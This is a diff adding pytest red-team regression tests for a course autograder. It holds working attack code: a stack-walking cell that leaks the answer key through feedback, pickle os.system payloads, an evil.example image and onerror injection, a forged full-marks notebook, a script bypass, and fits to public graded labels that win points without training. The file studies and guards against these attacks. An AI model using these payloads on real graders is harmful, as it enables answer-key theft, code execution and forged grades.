@@ -1,0 +1,512 @@
+"""Red-team findings: each test is a minimal reproduction of an attack on the grader and
+asserts the SAFE behaviour, so a test that fails shows a hole that is still open.
+
+Attacks that the grader defends are kept here too when their regression test is cheap.
+"""
+import base64
+import re
+import zlib
+from pathlib import Path
+
+import nbformat
+import pytest
+
+from autograder.sandbox import SandboxUnavailable, open_sandbox
+
+from ci_rules import require
+from autograder_support import REPO, append_cell, notebook, grade_folder, write_submission
+
+
+@pytest.fixture(scope="module")
+def sandbox():
+    try:
+        found = open_sandbox("bubblewrap")
+    except SandboxUnavailable as err:
+        require("sandbox", f"bubblewrap is not usable: {err}")
+    yield found
+    found.close()
+
+
+def _student_only(stem_notebooks):
+    """Every chapter a blank student stub, except those given."""
+    from fcnet.chapters import CHAPTERS
+
+    chosen = {stem: notebook(stem, "student") for stem in CHAPTERS}
+    chosen.update(stem_notebooks)
+    return chosen
+
+
+# ----------------------------------------------------------------------------------------
+# 1. The answer key's layers leak, whole, through the notes of a decoupled question.
+#
+# The decoupled worker (two_layer_net, training) receives the answer key's layers as
+# source text inside the job frame. worker_server._run_child (and worker_runtime.main)
+# keep the raw job bytes in a local variable `body` while the student's definitions run,
+# so a class body in 04_two_layer_net.ipynb can walk the stack, read the text, and append
+# it (compressed) to the `notes` list of run_job. Notes are copied into the student's
+# feedback (up to 50 notes of 600 characters), which is plenty for the ~2.4 kB of
+# compressed source: one submission gets the whole answer key for chapters 1-3.
+
+LEAK_CELL = '''
+class _Leak:
+    import sys as _s, zlib as _z, base64 as _b, json as _j
+    _f = _s._getframe()
+    _src = None
+    _notes = None
+    while _f is not None:
+        _v = _f.f_locals.get('body')
+        if _src is None and isinstance(_v, (bytes, bytearray)) and len(_v) > 8:
+            _n = int.from_bytes(_v[:8], 'little')
+            try:
+                _src = _j.loads(bytes(_v[8:8 + _n]).decode()).get('reference')
+            except Exception:
+                pass
+        if _f.f_code.co_name == 'run_job':
+            _notes = _f.f_locals.get('notes')
+        _f = _f.f_back
+    if _src and _notes is not None:
+        _data = _b.b64encode(_z.compress(_src.encode(), 9)).decode()
+        for _i in range(0, len(_data), 500):
+            _notes.append('LEAK%02d:' % (_i // 500) + _data[_i:_i + 500])
+'''
+
+
+def _recover_leak(text):
+    chunks = sorted(re.findall(r"LEAK(\d\d):(\S+)", text))
+    data = "".join(c for _, c in chunks).replace("\\", "")
+    try:
+        return zlib.decompress(base64.b64decode(data)).decode()
+    except Exception:
+        return ""
+
+
+def test_decoupled_worker_cannot_leak_the_reference_layers(sandbox, tmp_path):
+    from autograder import grading
+
+    nb = append_cell(notebook("04_two_layer_net"), LEAK_CELL)
+    write_submission(tmp_path / "subs", "mallory", _student_only({"04_two_layer_net": nb}))
+    points, outcome = grade_folder(tmp_path / "subs", tmp_path / "out", sandbox,
+                                   questions=("two_layer_net",), timeout=30, workers=1)
+    feedback = (tmp_path / "out" / "feedback" / "mallory.md").read_text()
+    leaked = _recover_leak(feedback)
+    reference = grading.reference_source()
+    assert "def affine_forward" not in leaked and leaked != reference, \
+        f"the feedback carries {len(leaked)} characters of the answer key's layers"
+
+
+
+def test_a_layer_question_worker_cannot_leak_the_hidden_probes(sandbox, tmp_path):
+    """The same hole in any question: the job bytes also hold autograder/probes.py (the
+    student-side halves of the hidden checks) and every hidden input of the question."""
+    nb = append_cell(notebook("02_relu", "student"), LEAK_CELL.replace(".get('reference')",
+                                                                       ".get('probes')"))
+    write_submission(tmp_path / "subs", "mallory", _student_only({"02_relu": nb}))
+    grade_folder(tmp_path / "subs", tmp_path / "out", sandbox, questions=("relu_forward",),
+                 timeout=30, workers=1)
+    feedback = (tmp_path / "out" / "feedback" / "mallory.md").read_text()
+    leaked = _recover_leak(feedback)
+    assert "def relu_forward_probe" not in leaked, \
+        f"the feedback carries {len(leaked)} characters of autograder/probes.py"
+
+# ----------------------------------------------------------------------------------------
+# 2. A Gradescope display name that looks like another student's stops the whole batch.
+#
+# layouts.gradescope_export counts repeated names *before* layouts._safe_id cleans them,
+# then _add raises LayoutError for two submissions with the same cleaned id. A student
+# who sets their Gradescope name to "Alice Smith." (or "Alice Smith ", " Alice Smith",
+# or a 121-character name sharing its first 120 characters) collides with "Alice Smith":
+# `python -m autograder grade EXPORT` exits 2 and nobody in the batch is graded (and the
+# message invites the instructor to delete one of the two).
+
+def _gradescope_export(root, names):
+    root.mkdir()
+    lines = []
+    for i, name in enumerate(names, 1):
+        (root / f"submission_{i}").mkdir()
+        lines += [f"submission_{i}:", "  :submitters:", f"  - :name: '{name}'",
+                  f"    :sid: '{i}'"]
+    (root / "submission_metadata.yml").write_text("\n".join(lines) + "\n")
+
+
+@pytest.mark.parametrize("lookalike", ["Alice Smith.", "Alice Smith ", " Alice Smith"])
+def test_a_lookalike_gradescope_name_does_not_stop_the_batch(tmp_path, lookalike):
+    from autograder.submissions import UsageError, discover
+
+    root = tmp_path / "export"
+    _gradescope_export(root, ["Alice Smith", lookalike])
+    try:
+        found = discover(root)
+    except UsageError as err:
+        pytest.fail(f"one student's display name stops the whole batch: {err}")
+    assert len({s.student for s in found}) == 2
+
+
+
+def test_a_student_who_takes_anothers_gradescope_name_is_told_apart(tmp_path):
+    """Same cause, no crash: a student who renames themselves "Alice Smith" exactly gets
+    "Alice Smith (submission_2)" beside the real Alice's "Alice Smith (submission_1)";
+    grades.csv then holds two Alice Smith rows that only Gradescope's folder names tell
+    apart, and the unique :sid: / :email: of the metadata is thrown away."""
+    from autograder.submissions import discover
+
+    root = tmp_path / "export"
+    _gradescope_export(root, ["Alice Smith", "Alice Smith"])
+    ids = [s.student for s in discover(root)]
+    assert all(any(sid in student for sid in ("1", "2")) and "submission_" not in student
+               for student in ids), f"ids that do not name the student uniquely: {ids}"
+
+# ----------------------------------------------------------------------------------------
+# 3. nbgrader's pre-convert hook crashes on a renamed chapter (found while attacking the
+# nbgrader route): autograder/nbgrader_bridge.py:name_chapters calls os.utime but the
+# module never imports os. nbgrader logs the NameError and skips the hook, so the copy
+# "Copy of 01_affine_layer.ipynb" (the case the hook exists for) is not graded: the honest
+# student gets 0 for chapter 1. (tests/test_submission_layouts.py's hook test fails too.)
+
+def test_the_nbgrader_hook_handles_a_renamed_chapter(tmp_path):
+    from autograder.nbgrader_bridge import name_chapters
+
+    folder = tmp_path / "submitted" / "bob" / "two_layer_net"
+    folder.mkdir(parents=True)
+    source = REPO / "solutions" / "notebooks" / "01_affine_layer.ipynb"
+    (folder / "Copy of 01_affine_layer.ipynb").write_bytes(source.read_bytes())
+    notebooks = [str(folder / "Copy of 01_affine_layer.ipynb")]
+    name_chapters(notebooks=notebooks)
+    assert str(folder / "01_affine_layer.ipynb") in notebooks
+
+
+# ----------------------------------------------------------------------------------------
+# 4. The student id goes unescaped into the Markdown feedback heading.
+#
+# report.feedback_markdown escapes every note, message and hint with _md, but writes
+# "# Feedback for {student}" raw. A folder/zip name (or a Gradescope name: _safe_id keeps
+# [ ] ( ) ! and spaces) such as "x](https://evil.example/track.png)" turns the heading
+# into a link or image when the feedback is rendered (an LMS, GitHub, a Markdown viewer).
+
+def test_the_student_id_is_escaped_in_markdown_feedback():
+    from autograder import report
+
+    student = "![x](https://evil.example/pixel.png) <img src=x onerror=alert(1)>"
+    text = report.feedback_markdown(student, {}, [], questions=())
+    heading = text.splitlines()[0]
+    assert "](" not in heading.replace("\\]", "") and "<img" not in heading
+
+
+# ----------------------------------------------------------------------------------------
+# 5. best_model.npz: full points without training anything, by a closed-form fit to the
+# very images and labels the grader scores.
+#
+# hidden_checks.best_model_case evaluates on data.test_set(): the public CIFAR-10 test
+# batch, which every student has (fcnet.data_utils.get_CIFAR10_data(num_test=10000) hands
+# it out, labels included). W1 = identity, b1 = a large constant (so the ReLU is the
+# identity) and W2, b2 from one ridge regression onto the test labels reach ~70% test
+# accuracy (full points from 48%), with every chapter left a stub: no layer, no network,
+# no training, no tuning.
+
+@pytest.mark.cifar
+def test_a_model_fit_to_the_graded_test_labels_does_not_earn_full_points(
+        cifar10_archive, sandbox, tmp_path):
+    import numpy as np
+
+    from autograder_support import model_bytes
+    from fcnet.data_utils import get_CIFAR10_data
+
+    data = get_CIFAR10_data(num_test=10000)
+    X = data["X_test"].reshape(10000, -1).astype(np.float64)
+    y = data["y_test"]
+    shift = 1000.0
+    targets = -np.ones((len(y), 10))
+    targets[np.arange(len(y)), y] = 1
+    A = np.hstack([X, np.ones((len(X), 1))])
+    W = np.linalg.solve(A.T @ A + 1e4 * np.eye(A.shape[1]), A.T @ targets)
+    params = {"W1": np.eye(X.shape[1]), "b1": np.full(X.shape[1], shift),
+              "W2": W[:-1], "b2": W[-1] - shift * W[:-1].sum(axis=0)}
+    write_submission(tmp_path / "subs", "mallory", kind="student",
+                     model=model_bytes(params))
+    points, _ = grade_folder(tmp_path / "subs", tmp_path / "out", sandbox,
+                             questions=("best_model",), workers=1)
+    assert points["mallory"]["best_model"] < 5, \
+        "a least-squares fit to the graded labels earns the best_model points"
+
+
+# ----------------------------------------------------------------------------------------
+# 6. otter run: a notebook at the top of the upload replaces the bundle's driver.
+#
+# otter's PythonRunner.resolve_submission_path executes the one *.ipynb at the top of the
+# submission folder, and only when there is none the one *.py (the bundle's driver
+# grade_two_layer_net.py). An upload holding one top-level notebook is therefore executed
+# in otter's kernel, where answer_key and autograder are importable, and the bundle's
+# tests read *its* `fcnet_submission`: a GradedSubmission it builds with every check
+# "passed" scores 100/100 with every chapter a stub (and otter_bridge._set_question_score
+# passes any number to TestFile.update_score, which does not clamp it). On Gradescope
+# run_autograder moves uploads into uploaded/ first; `otter run` (route 2) does not.
+
+FORGE_NOTEBOOK = '''from autograder.otter_bridge import GradedSubmission
+from autograder import hidden_checks
+from autograder.points import QUESTION_POINTS
+fcnet_submission = GradedSubmission({"results": {q: {"qid": q, "points": QUESTION_POINTS[q],
+    "max_points": QUESTION_POINTS[q], "notes": [],
+    "checks": [{"name": c.name, "status": "passed", "message": "", "hint": ""}
+               for c in hidden_checks.checks_for(q)]} for q in QUESTION_POINTS}})
+'''
+
+
+@pytest.mark.slow
+def test_otter_run_grades_the_bundle_driver_not_an_uploaded_notebook(tmp_path):
+    import json
+    import os
+    import shutil
+    import subprocess
+    import sys
+    import zipfile
+
+    otter = Path(sys.executable).parent / "otter"
+    bundle = REPO / "autograder" / "dist" / "otter" / "two_layer_net-autograder.zip"
+    if not otter.is_file() or not bundle.is_file():
+        pytest.skip("otter or the otter bundle is not available")
+    upload = tmp_path / "mallory.zip"
+    forge = nbformat.v4.new_notebook()
+    forge.cells.append(nbformat.v4.new_code_cell(FORGE_NOTEBOOK))
+    forge.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3",
+                                    "language": "python"}
+    with zipfile.ZipFile(upload, "w") as archive:
+        archive.writestr("forge.ipynb", nbformat.writes(forge))
+        for path in sorted((REPO / "exercises").glob("*.ipynb")):
+            archive.write(path, f"mallory/{path.name}")
+    out = tmp_path / "results"
+    out.mkdir()
+    env = {**os.environ, "FCNET_GRADING_TIMEOUT": "20"}
+    run = subprocess.run([str(otter), "run", "-a", str(bundle), "-o", str(out), "--no-logo",
+                          str(upload)], env=env, capture_output=True, text=True, timeout=600)
+    results = out / "results.json"
+    assert results.is_file(), run.stdout[-2000:] + run.stderr[-2000:]
+    tests = json.loads(results.read_text())["tests"]
+    total = sum(t.get("score") or 0 for t in tests)
+    assert total == 0, f"an all-stub upload with a forged notebook scores {total}"
+
+
+# ----------------------------------------------------------------------------------------
+# 7. Gradescope: an uploaded *file* named `uploaded` disables run_autograder's pre-step.
+#
+# The bundle's run_autograder (course_build/otter_bundle.py writes it) runs
+#     mkdir -p /autograder/submission/uploaded
+#     find /autograder/submission -mindepth 1 -maxdepth 1 ! -name uploaded -exec mv -t ... {} +
+# without `set -e` and without checking that `uploaded` is a folder it made. When the
+# upload holds a regular file called `uploaded`, mkdir fails, mv fails ("Not a
+# directory"), the script carries on, and every uploaded entry stays at the top of the
+# submission folder: a top-level notebook is then what otter executes (attack 6), now on
+# Gradescope, as root, next to the answer key.
+
+def test_gradescope_pre_step_moves_every_upload_aside(tmp_path):
+    import subprocess
+    import zipfile
+
+    bundle = REPO / "autograder" / "dist" / "otter" / "two_layer_net-autograder.zip"
+    if not bundle.is_file():
+        pytest.skip("the otter bundle is not built")
+    script = zipfile.ZipFile(bundle).read("run_autograder").decode()
+    lines = script.splitlines()
+    start = next(i for i, line in enumerate(lines) if line.startswith("mkdir -p /autograder/submission"))
+    pre_step = "\n".join(lines[start:start + 2])
+    submission = tmp_path / "submission"
+    submission.mkdir()
+    (submission / "uploaded").write_text("not a folder\n")
+    (submission / "forge.ipynb").write_text("{}")
+    subprocess.run(["bash", "-c", pre_step.replace("/autograder/submission", str(submission))],
+                   capture_output=True)
+    left = sorted(p.name for p in submission.iterdir() if p.name.endswith(".ipynb"))
+    assert left == [], f"uploads left where otter looks for the notebook to execute: {left}"
+
+
+# ----------------------------------------------------------------------------------------
+# 8. A student id of 251+ characters stops the batch's feedback.
+#
+# report.write_feedback writes feedback/<student>.md and .html with the id as it is. A
+# folder or zip name of 251 to 255 bytes (legal; LMS downloads prefix long names) makes
+# "<id>.html" longer than NAME_MAX: OSError escapes report.write_all, the grader ends with
+# a traceback, and every student sorted after that id gets no feedback file.
+
+def test_a_long_student_id_does_not_stop_the_batch_feedback(sandbox, tmp_path):
+    subs = tmp_path / "subs"
+    long_id = "a" * 251
+    write_submission(subs, long_id, kind="student")
+    write_submission(subs, "alice", kind="student")
+    try:
+        grade_folder(subs, tmp_path / "out", sandbox, questions=("inline_q1",), workers=1)
+    except OSError as err:
+        pytest.fail(f"the batch's report stopped: {err.strerror}")
+    assert (tmp_path / "out" / "feedback" / "alice.md").is_file()
+
+
+# ----------------------------------------------------------------------------------------
+# 9. otter run: a pickle named .OTTER_LOG at the top of the upload runs as the grader.
+#
+# otter's PythonRunner.run loads `.OTTER_LOG` from the submission folder whenever it is
+# there (LogEntry.log_from_file: dill.load), before anything of the bundle runs, in the
+# grading process itself (not the kernel, not a sandbox): arbitrary code as root, next
+# to the answer key and results.json. On Gradescope, the upload is moved aside first,
+# unless attack 7 (a file named `uploaded`) stops that move.
+
+@pytest.mark.slow
+def test_otter_run_never_unpickles_an_uploaded_log(tmp_path):
+    import os
+    import pickle
+    import subprocess
+    import sys
+    import zipfile
+
+    otter = Path(sys.executable).parent / "otter"
+    bundle = REPO / "autograder" / "dist" / "otter" / "two_layer_net-autograder.zip"
+    if not otter.is_file() or not bundle.is_file():
+        pytest.skip("otter or the otter bundle is not available")
+    marker = tmp_path / "PWNED"
+
+    class Payload:
+        def __reduce__(self):
+            return (os.system, (f"id > {marker}",))
+
+    upload = tmp_path / "mallory.zip"
+    with zipfile.ZipFile(upload, "w") as archive:
+        archive.writestr(".OTTER_LOG", pickle.dumps(Payload()))
+        for path in sorted((REPO / "exercises").glob("*.ipynb")):
+            archive.write(path, f"mallory/{path.name}")
+    out = tmp_path / "results"
+    out.mkdir()
+    env = {**os.environ, "FCNET_GRADING_TIMEOUT": "20"}
+    subprocess.run([str(otter), "run", "-a", str(bundle), "-o", str(out), "--no-logo",
+                    str(upload)], env=env, capture_output=True, text=True, timeout=600)
+    assert not marker.exists(), f"the upload's pickle ran in the grader: {marker.read_text()}"
+
+
+# ----------------------------------------------------------------------------------------
+# Defended (cheap regressions): crafted best_model.npz files are refused before any
+# pickle runs or any large allocation happens (autograder/best_model.py:load_params).
+
+def _npz(members):
+    import io
+    import zipfile
+
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        for name, data in members.items():
+            archive.writestr(name, data)
+    return buffer.getvalue()
+
+
+def _npy(array, allow_pickle=False):
+    import io
+
+    import numpy as np
+
+    buffer = io.BytesIO()
+    np.lib.format.write_array(buffer, array, allow_pickle=allow_pickle)
+    return buffer.getvalue()
+
+
+def test_crafted_models_are_refused(tmp_path):
+    import io
+    import os
+    import pickle
+
+    import numpy as np
+
+    from autograder.best_model import InvalidModel, load_params
+
+    marker = tmp_path / "ran"
+
+    class Payload:
+        def __reduce__(self):
+            return (os.system, (f"touch {marker}",))
+
+    good = {"W1": np.zeros((3072, 8)), "b1": np.zeros(8), "W2": np.zeros((8, 10)),
+            "b2": np.zeros(10)}
+    members = {f"{k}.npy": _npy(v) for k, v in good.items()}
+    huge = io.BytesIO()
+    np.lib.format.write_array_header_1_0(huge, {"descr": "<f8", "fortran_order": False,
+                                                "shape": (3072, 10 ** 9)})
+    cases = {
+        "pickle": {**members, "W1.npy": _npy(np.array([Payload()], dtype=object), True)},
+        "object": {**members, "b1.npy": _npy(np.array([None] * 8, dtype=object), True)},
+        "nan": {**members, "W2.npy": _npy(np.full((8, 10), np.nan))},
+        "huge": {**members, "W1.npy": huge.getvalue()},
+        "ints": {**members, "b2.npy": _npy(np.zeros(10, dtype=np.int64))},
+        "raw pickle": {"W1.npy": pickle.dumps(Payload())},
+    }
+    for name, files in cases.items():
+        with pytest.raises(InvalidModel):
+            load_params(_npz(files))
+    assert not marker.exists()
+
+
+# ----------------------------------------------------------------------------------------
+# 10. training: full points with neither a network nor sgd, from weights fitted offline
+# to the disclosed, public images the question trains and scores on.
+#
+# The training question scores the parameters the student's model ends with on CIFAR-10
+# training images 48000-48999 (fcnet/graded_training.py tells students eval_start=48000),
+# and its loss check uses images 0-1999; all are public, labels included. A ridge fit to
+# those images, embedded in the notebook as a literal list, reaches ~98% "held-out"
+# accuracy. A fake TwoLayerNet (random init, loss returning zero gradients) and a fake
+# sgd that swaps in the fitted arrays by shape earn 5/5 for training while sgd and
+# two_layer_net earn 0. hidden_checks._network_fit never checks the hidden size (W1 here
+# is 3072 x 3072) and nothing ties the final weights to the training run.
+
+@pytest.mark.cifar
+@pytest.mark.slow
+def test_training_points_need_a_network_that_was_trained(cifar10_archive, sandbox, tmp_path):
+    import numpy as np
+
+    from fcnet.data_utils import get_CIFAR10_data
+    from fcnet.graded_training import GRADED_TRAINING
+
+    data = get_CIFAR10_data(num_training=49000, num_validation=1000, num_test=0)
+    X, y = data["X_train"].reshape(49000, -1), data["y_train"]
+    start, n = GRADED_TRAINING["eval_start"], GRADED_TRAINING["num_eval"]
+    rows = np.r_[0:GRADED_TRAINING["num_train"], start:start + n]
+    A = np.hstack([X[rows], np.ones((len(rows), 1))])
+    T = -np.ones((len(rows), 10))
+    T[np.arange(len(rows)), y[rows]] = 1
+    W = 5.0 * (A.T @ np.linalg.solve(A @ A.T + 1e3 * np.eye(len(A)), T))
+    shift = 1000.0
+    W2, b2 = W[:-1], W[-1] - shift * W[:-1].sum(axis=0)
+    cell = FAKE_TRAINING.replace("W2_LIST", repr(np.round(W2, 7).tolist())) \
+        .replace("B2_LIST", repr(b2.tolist()))
+    nb = append_cell(notebook("05_solver", "student"), cell)
+    write_submission(tmp_path / "subs", "mallory", _student_only({"05_solver": nb}))
+    points, _ = grade_folder(tmp_path / "subs", tmp_path / "out", sandbox,
+                             questions=("sgd", "training"), timeout=60, workers=1)
+    assert points["mallory"]["sgd"] == 0
+    assert points["mallory"]["training"] == 0, \
+        "weights fitted offline to the public scoring images earn the training points"
+
+
+FAKE_TRAINING = '''import numpy as np
+_W2 = W2_LIST
+_b2 = B2_LIST
+
+def sgd(w, dw, config=None):
+    config = {} if config is None else config
+    if w.shape == (3072, 50):
+        return np.eye(3072, dtype=np.float32), config
+    if w.shape == (50,):
+        return np.full(3072, 1000.0), config
+    if w.shape == (50, 10):
+        return np.array(_W2), config
+    if w.shape == (10,) and not np.any(w):
+        return np.array(_b2), config
+    return w, config
+
+class TwoLayerNet:
+    def __init__(self, input_dim=3072, hidden_dim=50, num_classes=10, weight_scale=1e-3,
+                 reg=0.0, dtype=np.float64):
+        self.params = {"W1": weight_scale * np.random.randn(input_dim, hidden_dim),
+                       "b1": np.zeros(hidden_dim),
+                       "W2": weight_scale * np.random.randn(hidden_dim, num_classes),
+                       "b2": np.zeros(num_classes)}
+
+    def loss(self, X, y=None):
+        p = self.params
+        scores = np.maximum(X.reshape(len(X), -1) @ p["W1"] + p["b1"], 0) @ p["W2"] + p["b2"]
+        if y is None:
+            return scores
+        return 1.0, {k: np.zeros_like(v) for k, v in p.items()}
+'''
